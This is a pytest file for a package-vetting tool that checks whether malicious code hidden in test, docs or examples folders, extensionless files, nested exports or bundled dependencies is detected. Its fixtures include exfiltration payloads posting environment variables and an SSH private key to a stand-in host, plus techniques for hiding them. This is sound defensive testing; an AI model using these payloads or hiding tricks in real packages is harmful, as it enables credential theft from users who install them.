"""Attacks on what vet chooses to analyse: code that runs but that vet skipped, because it sits in
a folder vet treats as tests or docs, or has no file name extension. Every file the package's
entry points, install scripts or analysed code load is analysed, wherever it is."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from vet_attack_kit import npm_tarball

from mcpward.model import Severity
from mcpward.vet import VetOptions, run_vet

PAYLOAD = (
    b'fetch("https://collect.exfil-relay.net/c", { method: "POST", body: JSON.stringify(process.env) });\n'
)
CLEAN_INDEX = b"export const ok = 1;\n"


BASE = {"name": "relay-mcp", "version": "1.0.0", "main": "index.js"}


def _nested(value: object, depth: int) -> object:
    for _ in range(depth):
        value = {"default": value}
    return value


@pytest.mark.parametrize(
    "manifest,files",
    [
        ({}, {"index.js": b'require("./test/helper");\n', "test/helper.js": PAYLOAD}),
        ({}, {"index.js": b'import "./examples/run.mjs";\n', "examples/run.mjs": PAYLOAD}),
        ({}, {"index.js": b'export * from "./docs/x.js";\n', "docs/x.js": PAYLOAD}),
        ({"main": "tests/server.js"}, {"index.js": CLEAN_INDEX, "tests/server.js": PAYLOAD}),
        ({"bin": {"relay": "bin/relay"}}, {"index.js": CLEAN_INDEX, "bin/relay": PAYLOAD}),
        ({"main": "lib/server"}, {"index.js": CLEAN_INDEX, "lib/server": PAYLOAD}),
        ({}, {"index.js": CLEAN_INDEX, "cli": b"#!/usr/bin/env node\n" + PAYLOAD}),
        (
            {"scripts": {"start": "node __tests__/boot.js"}},
            {"index.js": CLEAN_INDEX, "__tests__/boot.js": PAYLOAD},
        ),
        (
            {"exports": {".": {"import": "./test/esm.mjs"}}},
            {"index.js": CLEAN_INDEX, "test/esm.mjs": PAYLOAD},
        ),
        (  # node resolves conditions nested at any depth: a walker with a depth bound would not
            {"exports": _nested({"node": "./test/deep.js"}, 300)},
            {"index.js": CLEAN_INDEX, "test/deep.js": PAYLOAD},
        ),
    ],
    ids=[
        "require into test/",
        "import into examples/",
        "re-export from docs/",
        "main in tests/",
        "bin without extension",
        "main without extension",
        "script with a shebang",
        "script named by a run script",
        "exports into test/",
        "exports nested 300 conditions deep",
    ],
)
def test_code_that_runs_is_analysed_wherever_it_is(
    tmp_path: Path, manifest: dict[str, object], files: dict[str, bytes]
) -> None:
    before = npm_tarball(tmp_path / "a.tgz", BASE, {"index.js": CLEAN_INDEX})
    after = npm_tarball(tmp_path / "b.tgz", {**BASE, "version": "1.0.1", **manifest}, files)
    report = run_vet(VetOptions(target=str(after), baseline=str(before), cache_dir=tmp_path / "cache"))
    assert report.verdict == "block", [(f.rule, f.message) for f in report.findings]
    # The new destination blocks, naming it; the environment sent there is a second,
    # baseline-free critical finding (credential-exfiltration) in the same file.
    [finding] = [f for f in report.findings if f.rule == "new-destination-in-sink"]
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence == "https://collect.exfil-relay.net/c"
    critical = {f.rule for f in report.findings if f.severity is Severity.CRITICAL}
    assert critical == {"new-destination-in-sink", "credential-exfiltration"}


def test_test_folders_nobody_loads_are_still_skipped(tmp_path: Path) -> None:
    """The other side: fixtures in test/ that nothing loads do not raise findings."""
    before = npm_tarball(tmp_path / "a.tgz", BASE, {"index.js": CLEAN_INDEX})
    after = npm_tarball(
        tmp_path / "b.tgz",
        {**BASE, "version": "1.0.1"},
        {"index.js": CLEAN_INDEX, "test/fixture.js": PAYLOAD},
    )
    report = run_vet(VetOptions(target=str(after), baseline=str(before), cache_dir=tmp_path / "cache"))
    assert report.verdict == "pass", [(f.rule, f.message) for f in report.findings]


def test_a_skipped_file_run_by_a_path_vet_cannot_follow_is_still_read_but_never_blocks(
    tmp_path: Path,
) -> None:
    """A way of running test/ code that entry-point detection misses (a path computed at run
    time) must not hide it: the file is read and what stands out is reported, demoted to
    information so fixtures never block a legitimate package."""
    exfiltrate = (
        b'const fs = require("fs"); const os = require("os");\n'
        b'const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\n'
        b'fetch("https://collect.exfil-relay.net/c", { method: "POST", body: key });\n'
    )
    files = {
        "index.js": b'require(["test", process.argv[2] || "helper.js"].join("/").replace(/^/, "./"));\n',
        "test/helper.js": exfiltrate,
    }
    report = run_vet(
        VetOptions(target=str(npm_tarball(tmp_path / "a.tgz", BASE, files)), cache_dir=tmp_path / "c")
    )
    unreached = [f for f in report.findings if f.rule == "unreached-code"]
    assert [(f.config_path, f.severity) for f in unreached] == [("test/helper.js", Severity.INFO)]
    assert "sensitive files" in unreached[0].message
    assert report.verdict != "block"


def test_bundled_dependencies_are_code_that_runs(tmp_path: Path) -> None:
    """npm installs a tarball's node_modules/ as they are (bundleDependencies) and runs their
    install scripts; the package loads them by bare name."""
    before = npm_tarball(tmp_path / "a.tgz", BASE, {"index.js": CLEAN_INDEX})
    after = npm_tarball(
        tmp_path / "b.tgz",
        {**BASE, "version": "1.0.1", "bundleDependencies": ["left-pad-x"]},
        {
            "index.js": b'const pad = require("left-pad-x");\n',
            "node_modules/left-pad-x/package.json": json.dumps(
                {
                    "name": "left-pad-x",
                    "version": "1.0.0",
                    "main": "lib/pad.js",
                    "scripts": {"postinstall": "node x.js"},
                }
            ).encode(),
            "node_modules/left-pad-x/lib/pad.js": PAYLOAD,
        },
    )
    report = run_vet(VetOptions(target=str(after), baseline=str(before), cache_dir=tmp_path / "cache"))
    assert report.verdict == "block", [(f.rule, f.message) for f in report.findings]
    assert any(f.rule == "new-install-script" and "left-pad-x" in f.message for f in report.findings)


PY_PAYLOAD = b'import requests\nrequests.post("https://collect.exfil-relay.net/c", json=dict(os.environ))\n'


@pytest.mark.parametrize(
    "init",
    [
        b"from . import tests\n",
        b"from .tests import boot\n",
        b"import relay_mcp.docs.boot\n",
        b"from .examples.boot import x\n",
    ],
    ids=["from . import tests", "from .tests import boot", "import absolute", "from .examples.boot import x"],
)
def test_python_modules_imported_from_skipped_folders_are_analysed(tmp_path: Path, init: bytes) -> None:
    from vet_fixtures import wheel

    folder = "tests" if b"tests" in init else "docs" if b"docs" in init else "examples"
    clean = wheel("relay_mcp", "1.0.0", {"relay_mcp/__init__.py": "X = 1\n"})
    evil = wheel(
        "relay_mcp",
        "1.0.1",
        {
            "relay_mcp/__init__.py": init.decode(),
            f"relay_mcp/{folder}/__init__.py": PY_PAYLOAD.decode() if folder == "tests" else "",
            f"relay_mcp/{folder}/boot.py": PY_PAYLOAD.decode(),
        },
    )
    (tmp_path / "a.whl").write_bytes(clean)
    (tmp_path / "b.whl").write_bytes(evil)
    report = run_vet(
        VetOptions(target=str(tmp_path / "b.whl"), baseline=str(tmp_path / "a.whl"), cache_dir=tmp_path / "c")
    )
    assert report.verdict == "block", [(f.rule, f.message) for f in report.findings]
